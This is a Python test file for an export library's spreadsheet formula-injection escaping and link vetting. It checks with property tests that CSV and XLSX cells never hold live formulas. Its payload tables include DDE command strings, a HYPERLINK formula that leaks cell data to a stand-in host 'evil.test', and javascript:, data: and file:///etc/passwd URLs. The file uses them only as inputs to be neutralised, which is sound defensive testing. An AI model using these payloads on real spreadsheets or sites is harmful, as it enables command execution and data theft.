"""Formula-injection neutralisation and link vetting: payload tables and property tests."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from dataops_spiders.exports import export_version
from dataops_spiders.exports.sanitize import (
    FORMULA_TRIGGERS,
    is_safe,
    neutralise,
    number_literal,
    restore,
    safe_link,
    xml_safe,
)

# Payloads from OWASP's CSV injection page and the usual DDE / HYPERLINK exfiltration tricks.
PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.test/?leak="&A1,"Click for details")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u3000=1+1",  # ideographic space in front
    "＝1+1",  # full-width equals
    "-",
    "=",
    "'=1+1",  # an apostrophe already in front still gets one more: the escape stays reversible
]

HARMLESS = ["Hello", "49.99", "a=b", "mail@example.com", "", "'quoted'", "100 %", "#N/A", "(1)"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payloads_get_a_leading_apostrophe_and_come_back(payload):
    escaped = neutralise(payload)
    assert escaped == "'" + payload
    assert is_safe(escaped)
    assert restore(escaped) == payload


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_text_is_left_alone(text):
    assert neutralise(text) == text
    assert restore(text) == text


@pytest.mark.parametrize(
    ("text", "number"),
    [
        ("-5", Decimal("-5")),
        ("-5.00", Decimal("-5.00")),
        ("1299.00", Decimal("1299.00")),
        ("1E+3", Decimal("1000")),
        ("-2+3", None),
        ("=5", None),
        ("5-", None),
        ("1,299.00", None),
        ("NaN", None),
        ("Infinity", None),
        ("", None),
    ],
)
def test_number_literals_are_recognised_and_nothing_else(text, number):
    assert number_literal(text) == number


@pytest.mark.parametrize(
    ("url", "linked"),
    [
        ("https://shop.example/product/1.html", True),
        ("http://shop.example/p?q=a&b=c#top", True),
        ("HTTPS://Shop.Example/", True),
        ("http://shop.example/café/東京", True),
        ("javascript:alert(1)", False),
        ("JavaScript:alert(document.cookie)", False),
        (" javascript:alert(1)", False),
        ("vbscript:msgbox(1)", False),
        ("data:text/html,<script>alert(1)</script>", False),
        ("file:///etc/passwd", False),
        ("mailto:a@example.com", False),
        ('=HYPERLINK("http://evil.test","x")', False),
        ("//shop.example/product/1.html", False),
        ("/product/1.html", False),
        ("http://", False),
        ("http:///path-only", False),
        ("http://shop.example/a b", False),
        ("http://shop.example/\x00", False),
        ('http://shop.example/"onmouseover', False),
        ("http://[::1", False),
        ("https://shop.example/" + "a" * 2100, False),
        ("", False),
        (None, False),
    ],
)
def test_only_absolute_http_urls_become_links(url, linked):
    assert safe_link(url) == (url if linked else None)


def test_xml_safe_replaces_only_what_xlsx_cannot_hold():
    assert xml_safe("a\x00b\x07c\td\ne\rf") == "a\ufffdb\ufffdc\td\ne\rf"


# Text biased towards the dangerous cases: trigger characters, whitespace and apostrophes in
# front of arbitrary text.
risky_text = st.builds(
    lambda head, tail: head + tail,
    st.text(alphabet=[*sorted(FORMULA_TRIGGERS), " ", "\n", "\u3000", "'"], max_size=4),
    st.text(max_size=30),
)
any_text = st.one_of(st.text(), risky_text)


@given(any_text)
def test_neutralised_text_never_reads_as_a_formula(text):
    escaped = neutralise(text)
    assert is_safe(escaped)
    first_visible = escaped.lstrip()[:1]
    assert escaped[:1] not in FORMULA_TRIGGERS
    assert first_visible not in FORMULA_TRIGGERS


@given(any_text)
def test_escape_is_reversible_and_only_ever_prepends_one_apostrophe(text):
    escaped = neutralise(text)
    assert restore(escaped) == text
    assert escaped in (text, "'" + text)


@given(any_text)
def test_safe_text_without_a_leading_apostrophe_is_unchanged(text):
    if is_safe(text) and not text.startswith("'"):
        assert neutralise(text) == text


@given(any_text, any_text)
def test_different_texts_never_share_an_escaped_form(first, second):
    if first != second:
        assert neutralise(first) != neutralise(second)


def _records(texts):
    return [
        {
            "record_key": f"K{i}",
            "source_url": f"https://shop.example/{i}",
            "fields": {"text": {"value": text}, "price": {"value": text}},
        }
        for i, text in enumerate(texts)
    ]


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(any_text, min_size=1, max_size=8))
def test_xlsx_never_stores_a_formula_whatever_the_text(texts):
    out = io.BytesIO()
    export_version(_records(texts), "xlsx", out, field_types={"price": "price"})
    sheet = load_workbook(io.BytesIO(out.getvalue())).active
    rows = list(sheet.iter_rows(min_row=2))
    assert len(rows) == len(texts)
    for text, row in zip(texts, rows, strict=True):
        for cell in row:
            assert cell.data_type != "f"
            if isinstance(cell.value, str):
                assert is_safe(cell.value)
        text_cell, price_cell = row[2], row[3]
        expected = neutralise(xml_safe(text))
        assert (text_cell.value or "") == expected
        number = number_literal(text.strip())
        if number is not None:  # a number literal in a price column is a number
            assert price_cell.data_type == "n"
            assert Decimal(str(price_cell.value)) == number
        else:
            assert (price_cell.value or "") == expected


@settings(max_examples=200)
@given(st.lists(any_text, min_size=1, max_size=8))
def test_csv_cells_read_back_exactly_as_neutralised(texts):
    out = io.BytesIO()
    export_version(_records(texts), "csv", out)
    rows = list(csv.reader(io.StringIO(out.getvalue().decode("utf-8-sig"), newline="")))
    assert [row[2] for row in rows[1:]] == [neutralise(text) for text in texts]
    for row in rows:
        assert all(is_safe(cell) for cell in row)
